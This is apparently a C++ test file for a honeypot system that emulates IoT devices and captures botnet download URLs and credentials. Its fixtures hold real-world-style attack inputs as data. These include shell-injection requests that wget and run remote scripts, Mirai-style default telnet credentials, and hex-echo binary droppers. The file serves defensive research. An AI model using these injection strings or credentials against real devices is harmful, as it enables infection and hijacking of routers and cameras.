#include <catch2/catch_amalgamated.hpp>

#include <condition_variable>
#include <filesystem>
#include <fstream>
#include <map>
#include <mutex>
#include <vector>

#include "trapline/fixtures/elf_builder.hpp"
#include "trapline/fixtures/pcap_builder.hpp"
#include "trapline/honeypot/http_honeypot.hpp"
#include "trapline/honeypot/reporter.hpp"
#include "trapline/honeypot/telnet_honeypot.hpp"
#include "trapline/parsers/hex_script.hpp"
#include "trapline/service/http_api.hpp"
#include "trapline/service/pipeline.hpp"

using namespace trapline;
using namespace trapline::honeypot;
namespace fs = std::filesystem;

namespace {

struct RecordCollector {
  std::mutex mu;
  std::condition_variable cv;
  std::vector<AttackRecord> records;

  RecordSink sink() {
    return [this](const AttackRecord& r) {
      {
        std::lock_guard<std::mutex> lk(mu);
        records.push_back(r);
      }
      cv.notify_all();
    };
  }

  AttackRecord wait_for_record(size_t index, int timeout_ms = 8000) {
    std::unique_lock<std::mutex> lk(mu);
    bool ok = cv.wait_for(lk, std::chrono::milliseconds(timeout_ms),
                          [&] { return records.size() > index; });
    REQUIRE(ok);
    return records[index];
  }
};

int connect_local(uint16_t port) {
  int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  REQUIRE(fd >= 0);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(port);
  ::inet_pton(AF_INET, "127.0.0.1", &addr.sin_addr);
  REQUIRE(::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0);
  return fd;
}

std::string read_until(int fd, const std::string& marker, int timeout_ms = 4000) {
  std::string acc;
  char buf[1024];
  while (acc.find(marker) == std::string::npos) {
    ssize_t n = read_some(fd, buf, sizeof buf, timeout_ms);
    if (n <= 0) break;
    acc.append(buf, static_cast<size_t>(n));
  }
  return acc;
}

std::string read_until_close(int fd, int timeout_ms = 4000) {
  std::string acc;
  char buf[2048];
  for (;;) {
    ssize_t n = read_some(fd, buf, sizeof buf, timeout_ms);
    if (n <= 0) break;
    acc.append(buf, static_cast<size_t>(n));
  }
  return acc;
}

void send_line(int fd, const std::string& line) { write_all(fd, line + "\r\n"); }

class ScriptedClient : public SubmitClient {
 public:
  bool failing = false;
  std::vector<std::pair<CapturedKind, std::string>> submissions;

  std::string submit(CapturedKind kind, const std::string& payload) override {
    if (failing) fail(ErrorKind::network_error, "ingest API unreachable");
    submissions.emplace_back(kind, payload);
    return "sub-" + std::to_string(submissions.size());
  }
};

class CannedFetcher : public service::UrlFetcher {
 public:
  std::map<std::string, Bytes> bodies;

  parsers::FetchResult fetch(const std::string& url) override {
    auto it = bodies.find(url);
    if (it == bodies.end()) fail(ErrorKind::network_error, "fetch failed: " + url);
    parsers::FetchResult out;
    out.body = it->second;
    out.kind = parsers::classify_body(out.body);
    out.final_url = url;
    return out;
  }
};

}  // namespace

TEST_CASE("presets carry the deployment ports of the simulated services") {
  CHECK(default_port(HoneypotKind::telnet) == 23);
  CHECK(default_port(HoneypotKind::adb) == 5555);
  CHECK(default_port(HoneypotKind::jaws) == 60001);
  CHECK(default_port(HoneypotKind::dlink) == 49152);
  CHECK(default_port(HoneypotKind::realtek) == 52869);
  CHECK(default_port(HoneypotKind::gpon) == 8080);
  CHECK(default_port(HoneypotKind::huawei) == 37215);
  CHECK(default_port(HoneypotKind::netgear) == 80);
  CHECK(default_port(HoneypotKind::hadoop_yarn) == 8088);

  for (auto k : {HoneypotKind::telnet, HoneypotKind::adb, HoneypotKind::jaws,
                 HoneypotKind::dlink, HoneypotKind::realtek, HoneypotKind::gpon,
                 HoneypotKind::huawei, HoneypotKind::netgear, HoneypotKind::hadoop_yarn}) {
    CHECK(honeypot_kind_from_string(to_string(k)) == k);
    auto cfg = honeypot_preset(k);
    CHECK(cfg.kind == k);
    CHECK(cfg.listen_port == default_port(k));
  }
  CHECK_THROWS_AS(honeypot_kind_from_string("toaster"), Error);
}

TEST_CASE("attack records round-trip through JSON") {
  AttackRecord r;
  r.honeypot_kind = "jaws";
  r.attacker_ip = "198.51.100.7";
  r.attacker_port = 40123;
  r.timestamp = "2021-06-01T10:00:00Z";
  r.payload = {CapturedKind::url, "http://23.254.130.186/bins/Jaws.sh"};
  r.http_request = HttpRequestInfo{"GET", "/shell?x", "Hello-World"};
  auto back = attack_record_from_json(to_json(r));
  CHECK(to_json(back) == to_json(r));
  CHECK_FALSE(back.credentials.has_value());

  r.credentials = CredentialPair{"root", "xc3511"};
  r.http_request.reset();
  back = attack_record_from_json(to_json(r));
  CHECK(back.credentials->password == "xc3511");
  CHECK_FALSE(back.http_request.has_value());
}

TEST_CASE("a shell-injection URI yields the download URL") {
  auto cfg = honeypot_preset(HoneypotKind::jaws);
  std::string raw =
      "GET /shell?cd /tmp; wget http://23.254.130.186/bins/Jaws.sh; "
      "chmod 777 Jaws.sh; sh Jaws.sh HTTP/1.1\r\n"
      "User-Agent: Hello, world\r\n"
      "Host: 198.51.100.2:60001\r\n\r\n";
  auto ex = handle_http_attack(cfg, raw, "198.51.100.7", 40123, "2021-06-01T10:00:00Z");

  CHECK(ex.record.honeypot_kind == "jaws");
  CHECK(ex.record.payload.kind == CapturedKind::url);
  CHECK(ex.record.payload.value == "http://23.254.130.186/bins/Jaws.sh");
  REQUIRE(ex.record.http_request.has_value());
  CHECK(ex.record.http_request->method == "GET");
  CHECK(ex.record.http_request->uri ==
        "/shell?cd /tmp; wget http://23.254.130.186/bins/Jaws.sh; chmod 777 Jaws.sh; sh Jaws.sh");
  CHECK(ex.record.http_request->user_agent == "Hello, world");
  CHECK(ex.response.find("HTTP/1.1 200 OK") == 0);
}

TEST_CASE("a benign probe yields a record with no payload") {
  auto cfg = honeypot_preset(HoneypotKind::netgear);
  auto ex = handle_http_attack(cfg, "GET / HTTP/1.1\r\n\r\n", "198.51.100.9", 1024,
                               "2021-06-01T10:00:00Z");
  CHECK(ex.record.payload.kind == CapturedKind::none);
  CHECK(ex.record.http_request->uri == "/");
}

TEST_CASE("a percent-encoded URI is decoded before extraction") {
  auto cfg = honeypot_preset(HoneypotKind::gpon);
  std::string raw =
      "POST /GponForm/diag_Form?images/ HTTP/1.1\r\n\r\n"
      "XWebPageName=diag&diag_action=ping&dest_host=%60wget+http%3A%2F%2F203.0.113.44%2Fgpon.sh%60";
  auto ex = handle_http_attack(cfg, raw, "198.51.100.9", 1024, "2021-06-01T10:00:00Z");
  CHECK(ex.record.payload.kind == CapturedKind::url);
  CHECK(ex.record.payload.value == "http://203.0.113.44/gpon.sh");
}

TEST_CASE("a hex-echo POST body is captured as a hex script") {
  auto cfg = honeypot_preset(HoneypotKind::huawei);
  Bytes blob{0x7f, 0x45, 0x4c, 0x46, 0x01, 0x02};
  std::string script = parsers::encode_hex_script(blob, 3);
  std::string raw = "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: " +
                    std::to_string(script.size()) + "\r\n\r\n" + script;
  auto ex = handle_http_attack(cfg, raw, "198.51.100.9", 1024, "2021-06-01T10:00:00Z");
  REQUIRE(ex.record.payload.kind == CapturedKind::hex_script);
  CHECK(parsers::assemble_hex_script(ex.record.payload.value) == blob);
}

TEST_CASE("different configs answer byte-differently") {
  auto a = honeypot_preset(HoneypotKind::jaws);
  auto b = honeypot_preset(HoneypotKind::jaws);
  b.banner = "JAWS/1.1";
  b.hostname = "cam-7";
  auto ra = handle_http_attack(a, "GET / HTTP/1.1\r\n\r\n", "1.2.3.4", 1, "t");
  auto rb = handle_http_attack(b, "GET / HTTP/1.1\r\n\r\n", "1.2.3.4", 1, "t");
  CHECK(ra.response != rb.response);
}

TEST_CASE("the emulated shell walks a loader session to the payload URL") {
  auto cfg = honeypot_preset(HoneypotKind::telnet);
  TelnetShell shell(cfg);
  CHECK(shell.greeting().find(cfg.hostname + " login: ") != std::string::npos);

  CHECK(*shell.on_line("root") == "Password: ");
  auto welcome = shell.on_line("xc3511");
  REQUIRE(welcome.has_value());
  CHECK(welcome->find(cfg.banner) != std::string::npos);
  CHECK(shell.logged_in());

  CHECK(shell.on_line("enable").has_value());
  CHECK(shell.on_line("system").has_value());
  CHECK(shell.on_line("/bin/busybox ECCHI")->find("ECCHI: applet not found") !=
        std::string::npos);
  CHECK(shell.on_line("cat /proc/cpuinfo")->find("ARMv7") != std::string::npos);
  CHECK(shell.on_line("uname -a")->find(cfg.hostname) != std::string::npos);
  CHECK(shell
            .on_line("cd /tmp; wget http://192.236.146.234:80/lmaoWTF/loligang.arm7; "
                     "chmod 777 loligang.arm7")
            .has_value());
  CHECK(shell.on_line("./loligang.arm7 telnet.loader").has_value());
  CHECK_FALSE(shell.on_line("exit").has_value());
  CHECK(shell.closed());

  auto rec = shell.finish("198.51.100.77", 53122, "2021-06-01T10:00:00Z");
  CHECK(rec.honeypot_kind == "telnet");
  CHECK(rec.payload.kind == CapturedKind::url);
  CHECK(rec.payload.value == "http://192.236.146.234:80/lmaoWTF/loligang.arm7");
  REQUIRE(rec.credentials.has_value());
  CHECK(rec.credentials->user == "root");
  CHECK(rec.credentials->password == "xc3511");
}

TEST_CASE("a failed login is recorded without any payload") {
  auto cfg = honeypot_preset(HoneypotKind::telnet);
  TelnetShell shell(cfg);
  CHECK(*shell.on_line("root") == "Password: ");
  CHECK(shell.on_line("letmein")->find("Login incorrect") != std::string::npos);
  CHECK(*shell.on_line("admin") == "Password: ");
  CHECK(shell.on_line("hunter2")->find("Login incorrect") != std::string::npos);
  CHECK(*shell.on_line("root") == "Password: ");
  CHECK_FALSE(shell.on_line("password123").has_value());  // third strike closes
  CHECK(shell.closed());

  auto rec = shell.finish("198.51.100.78", 53123, "2021-06-01T10:00:00Z");
  CHECK(rec.payload.kind == CapturedKind::none);
  REQUIRE(rec.credentials.has_value());
  CHECK(rec.credentials->user == "root");
  CHECK(rec.credentials->password == "password123");
}

TEST_CASE("echoed hex chunks assemble into the transferred bytes") {
  auto cfg = honeypot_preset(HoneypotKind::telnet);
  TelnetShell shell(cfg);
  shell.on_line("root");
  shell.on_line("root");

  Bytes blob{0x7f, 0x45, 0x4c, 0x46, 0xca, 0xfe, 0xba, 0xbe};
  std::string script = parsers::encode_hex_script(blob, 2, "upd");
  size_t commands = 0;
  std::string line;
  for (char c : script + "\n") {
    if (c == '\n') {
      if (!line.empty()) {
        CHECK(shell.on_line(line).has_value());
        commands++;
      }
      line.clear();
    } else {
      line.push_back(c);
    }
  }
  CHECK(commands == 4);  // 8 bytes in 2-byte chunks
  shell.on_line("chmod 777 upd");
  shell.on_line("./upd");

  auto rec = shell.finish("198.51.100.79", 53124, "2021-06-01T10:00:00Z");
  REQUIRE(rec.payload.kind == CapturedKind::hex_script);
  CHECK(parsers::assemble_hex_script(rec.payload.value) == blob);
}

TEST_CASE("an echo probe without redirection is not a transfer") {
  auto cfg = honeypot_preset(HoneypotKind::telnet);
  TelnetShell shell(cfg);
  shell.on_line("root");
  shell.on_line("root");
  CHECK(shell.on_line("echo -e hello")->find("hello") != std::string::npos);
  auto rec = shell.finish("198.51.100.80", 53125, "t");
  CHECK(rec.payload.kind == CapturedKind::none);
}

TEST_CASE("unknown commands get the stock applet reply") {
  auto cfg = honeypot_preset(HoneypotKind::telnet);
  TelnetShell shell(cfg);
  shell.on_line("root");
  shell.on_line("root");
  CHECK(shell.on_line("qwertyuiop")->find("qwertyuiop: applet not found") !=
        std::string::npos);
  CHECK(shell.on_line("cat /etc/passwd")->find("can't open") != std::string::npos);
}

TEST_CASE("the HTTP honeypot answers over a real socket") {
  RecordCollector collector;
  auto cfg = honeypot_preset(HoneypotKind::jaws);
  HttpExploitHoneypot pot(cfg, collector.sink());
  uint16_t port = pot.start("127.0.0.1", uint16_t{0});

  int fd = connect_local(port);
  write_all(fd,
            "GET /shell?cd /tmp; wget http://23.254.130.186/bins/Jaws.sh; sh Jaws.sh "
            "HTTP/1.1\r\nUser-Agent: curl/7.3\r\n\r\n");
  std::string response = read_until_close(fd);
  ::close(fd);

  CHECK(response.find("200 OK") != std::string::npos);
  CHECK(response.find(cfg.banner) != std::string::npos);
  auto rec = collector.wait_for_record(0);
  CHECK(rec.attacker_ip == "127.0.0.1");
  CHECK(rec.payload.value == "http://23.254.130.186/bins/Jaws.sh");
  pot.stop();
}

TEST_CASE("oversized requests are dropped but still recorded") {
  RecordCollector collector;
  auto cfg = honeypot_preset(HoneypotKind::netgear);
  cfg.session_timeout_sec = 2;
  HttpExploitHoneypot pot(cfg, collector.sink());
  uint16_t port = pot.start("127.0.0.1", uint16_t{0});

  int fd = connect_local(port);
  std::string chunk(64 * 1024, 'A');
  write_all(fd, "POST /x HTTP/1.1\r\nContent-Length: 9999999\r\n\r\n");
  for (int i = 0; i < 17 && write_all(fd, chunk); i++) {
  }
  auto rec = collector.wait_for_record(0);
  CHECK(rec.payload.kind == CapturedKind::none);
  ::close(fd);
  pot.stop();
}

TEST_CASE("the telnet honeypot captures a full session over a socket") {
  RecordCollector collector;
  auto cfg = honeypot_preset(HoneypotKind::telnet);
  TelnetHoneypot pot(cfg, collector.sink());
  uint16_t port = pot.start("127.0.0.1", uint16_t{0});

  int fd = connect_local(port);
  read_until(fd, "login: ");
  send_line(fd, "root");
  read_until(fd, "Password: ");
  send_line(fd, "vizxv");
  read_until(fd, ":~# ");
  send_line(fd, "/bin/busybox MIRAI");
  read_until(fd, "applet not found");
  send_line(fd, "wget http://192.236.146.234:80/lmaoWTF/loligang.arm7");
  read_until(fd, ":~# ");
  send_line(fd, "exit");
  ::close(fd);

  auto rec = collector.wait_for_record(0);
  CHECK(rec.payload.kind == CapturedKind::url);
  CHECK(rec.payload.value == "http://192.236.146.234:80/lmaoWTF/loligang.arm7");
  CHECK(rec.credentials->user == "root");
  pot.stop();
}

TEST_CASE("a silent telnet connection times out into a partial record") {
  RecordCollector collector;
  auto cfg = honeypot_preset(HoneypotKind::telnet);
  cfg.session_timeout_sec = 1;
  TelnetHoneypot pot(cfg, collector.sink());
  uint16_t port = pot.start("127.0.0.1", uint16_t{0});

  int fd = connect_local(port);
  read_until(fd, "login: ");
  auto rec = collector.wait_for_record(0, 5000);
  CHECK(rec.payload.kind == CapturedKind::none);
  CHECK_FALSE(rec.credentials.has_value());
  ::close(fd);
  pot.stop();
}

TEST_CASE("the reporter logs everything and submits payloads once") {
  fs::path log = fs::temp_directory_path() / "trapline_attack_log" / "attacks.jsonl";
  fs::remove_all(log.parent_path());
  auto client = std::make_shared<ScriptedClient>();
  Reporter reporter(log, client);

  AttackRecord with_url;
  with_url.honeypot_kind = "telnet";
  with_url.attacker_ip = "198.51.100.1";
  with_url.timestamp = "t";
  with_url.payload = {CapturedKind::url, "http://203.0.113.10/a.arm7"};
  auto id = reporter.report(with_url);
  REQUIRE(id.has_value());
  CHECK(*id == "sub-1");

  AttackRecord probe = with_url;
  probe.payload = {CapturedKind::none, ""};
  CHECK_FALSE(reporter.report(probe).has_value());
  CHECK(client->submissions.size() == 1);
  CHECK(reporter.pending() == 0);

  std::ifstream in(log);
  std::string line;
  size_t lines = 0, submitted = 0;
  while (std::getline(in, line)) {
    auto j = nlohmann::json::parse(line);
    lines++;
    if (j.at("submitted").get<bool>()) submitted++;
  }
  CHECK(lines == 2);
  CHECK(submitted == 1);
  fs::remove_all(log.parent_path());
}

TEST_CASE("failed submissions stay pending until a retry delivers them") {
  auto client = std::make_shared<ScriptedClient>();
  client->failing = true;
  Reporter reporter({}, client);

  AttackRecord rec;
  rec.honeypot_kind = "telnet";
  rec.attacker_ip = "198.51.100.1";
  rec.timestamp = "t";
  rec.payload = {CapturedKind::hex_script, "echo -ne '\\x7f' > upd\n"};
  CHECK_FALSE(reporter.report(rec).has_value());
  CHECK(reporter.pending() == 1);
  CHECK(reporter.retry_pending() == 0);
  CHECK(reporter.pending() == 1);

  client->failing = false;
  CHECK(reporter.retry_pending() == 1);
  CHECK(reporter.pending() == 0);
  CHECK(client->submissions.size() == 1);
  CHECK(client->submissions[0].first == CapturedKind::hex_script);
}

TEST_CASE("a captured URL flows from the honeypot into an analysis report") {
  using namespace trapline::service;

  auto fetcher = std::make_shared<CannedFetcher>();
  Pipeline pipeline({}, std::make_shared<sandbox::FunctionExecutor>([](const auto&) {
                      sandbox::RawExecution out;
                      out.trace_text =
                          "100 socket(AF_INET, SOCK_STREAM, 0) = 4\n"
                          "100 connect(4, addr, 16) = 0\n"
                          "100 open(\"/etc/rc.local\", O_RDONLY) = 3\n"
                          "100 read(3, \"x\", 1) = 1\n"
                          "100 close(3) = 0\n"
                          "100 exit_group(0) = 0\n";
                      out.capture_bytes = fixtures::CaptureBuilder().build();
                      return out;
                    }),
                    nullptr, nullptr, fetcher);
  ApiServer api(pipeline);
  int api_port = api.start("127.0.0.1");

  fixtures::MinElfSpec spec;
  spec.embedded_strings = {"loligang-e2e"};
  Bytes elf = fixtures::build_min_elf(spec);
  fetcher->bodies["http://192.236.146.234:80/lmaoWTF/loligang.arm7"] = elf;

  auto client =
      std::make_shared<HttpSubmitClient>("http://127.0.0.1:" + std::to_string(api_port));
  Reporter reporter({}, client);

  RecordCollector collector;
  auto cfg = honeypot_preset(HoneypotKind::telnet);
  // submit before signaling so waiting on the record implies the pipeline has
  // the job queued
  TelnetHoneypot pot(cfg, [&](const AttackRecord& r) {
    reporter.report(r);
    collector.sink()(r);
  });
  uint16_t port = pot.start("127.0.0.1", uint16_t{0});

  int fd = connect_local(port);
  read_until(fd, "login: ");
  send_line(fd, "root");
  read_until(fd, "Password: ");
  send_line(fd, "root");
  read_until(fd, ":~# ");
  send_line(fd, "wget http://192.236.146.234:80/lmaoWTF/loligang.arm7");
  read_until(fd, ":~# ");
  send_line(fd, "exit");
  ::close(fd);

  collector.wait_for_record(0);
  pipeline.drain();

  CHECK(pipeline.report_count() == 1);
  auto report = pipeline.report_by_hash(sha256_hex(elf));
  REQUIRE(report.has_value());
  CHECK(report->md_urls ==
        std::vector<std::string>{"http://192.236.146.234:80/lmaoWTF/loligang.arm7"});

  api.stop();
  pot.stop();
}
